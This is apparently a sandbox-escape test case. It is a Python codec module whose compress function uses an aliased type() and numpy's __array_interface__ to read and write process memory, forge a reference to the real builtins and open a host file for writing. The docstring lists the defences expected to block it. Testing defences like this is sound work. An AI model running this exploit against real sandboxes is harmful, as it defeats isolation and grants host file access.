"""Attack: `make = type` hides a three-argument type() behind an alias. The class it builds
has a computed special name, "__array_interface__", so numpy maps any address as an
array. With addresses read off default reprs, the attack reads the real builtins out of a
standard-library function, forges a reference to them in a function's defaults, and opens
a file for writing on the host.

Expected: rejected statically (`type` may only be called, with one argument; it passed
validation before, which looked for the spelling `type(...)`). With static validation off
nothing audits memory, so the forgery works: the open trips the audit hook (violation);
seccomp kills the write-open, Landlock refuses it and bubblewrap confines it.
"""
import lzma

import numpy as np

make = type
SPECIAL = "_" * 2 + "array_interface" + "_" * 2


def address_of(value):
    return int(repr(value).rsplit(" ", 1)[1].rstrip(">"), 16)  # "<function f at 0x7f...>"


def memory(address, size):
    """A writable numpy view of `size` bytes at `address` in this process."""
    interface = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
    return np.asarray(make("View", (), {SPECIAL: interface})())


def word(address, value=None):
    if value is not None:
        memory(address, 8)[:] = np.frombuffer(value.to_bytes(8, "little"), np.uint8)
    return int.from_bytes(memory(address, 8).tobytes(), "little")


def holder(value=None):
    return value


def object_at(address):
    """The object at `address`, as a real reference: written over holder's default."""
    word(address, word(address) + 1)  # its reference count, for the reference made here
    defaults = word(address_of(holder) + 56)  # PyFunctionObject.func_defaults
    word(defaults + 24, address)  # the tuple's first item
    return holder()


def compress_video_frame(frame, frame_index, config):
    real_builtins = object_at(word(address_of(lzma.compress) + 24))  # func_builtins
    handle = real_builtins["op" + "en"](f"{config['target_dir']}/meaning_type_alias", "w")
    print("pwned", file=handle, flush=True)
    return b"ESCAPED:wrote a file"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
